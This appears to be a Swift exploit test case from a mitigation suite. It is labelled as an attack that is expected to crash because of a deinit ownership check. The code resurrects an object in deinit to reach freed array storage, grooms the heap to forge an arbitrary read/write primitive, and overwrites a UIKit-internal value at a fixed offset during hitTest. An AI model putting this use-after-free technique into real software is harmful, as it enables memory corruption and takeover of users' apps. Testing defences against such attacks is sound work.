// Attack: an object keeps itself while it ends, and shows a list that it has already given back.
// Exercise: 3
// Expect: crashed
// Held by: each deinit ends with a check of who keeps the object
import UIKit

final class Mark {
    var first = Int.max, second = 1 << 60
    var number: Int
    init(_ number: Int) { self.number = number }
}

final class Looker { deinit { Memory.look() } }

final class Dying {
    var list: [Int] = [1]
    var looker = Looker()
    deinit { Memory.dying = self }
}

enum Memory {
    nonisolated(unsafe) static var dying: Dying?
    nonisolated(unsafe) static var marks: [Mark] = []
    nonisolated(unsafe) static var words: [Int] = []
    nonisolated(unsafe) static var base: UInt = 0

    /// Between the end of the list and that of the object itself.
    static func look() {
        guard let object = dying else { return }
        for number in 0..<64 { marks.append(Mark(number)) }
        if object.list.count == Int.max {
            words = object.list
            let number = words[0]
            base = UInt(bitPattern: ObjectIdentifier(marks[number])) &+ 32
        }
        dying = nil
    }

    static func prepare() {
        marks.reserveCapacity(128)
        make()
        marks.removeAll()
    }
    @inline(never) static func make() { _ = Dying() }

    static subscript(address: UInt) -> Int {
        get { words[Int((address &- base) >> 3)] }
        set { words[Int((address &- base) >> 3)] = newValue }
    }

    /// Where the model keeps what is heard of it, at its distance from UIView in the kit.
    static let kinds: UInt = {
        prepare()
        return UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23928
    }()
    nonisolated(unsafe) static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Memory[Memory.kinds] = Memory.old
        return super.point(inside: point, with: event)
    }
}
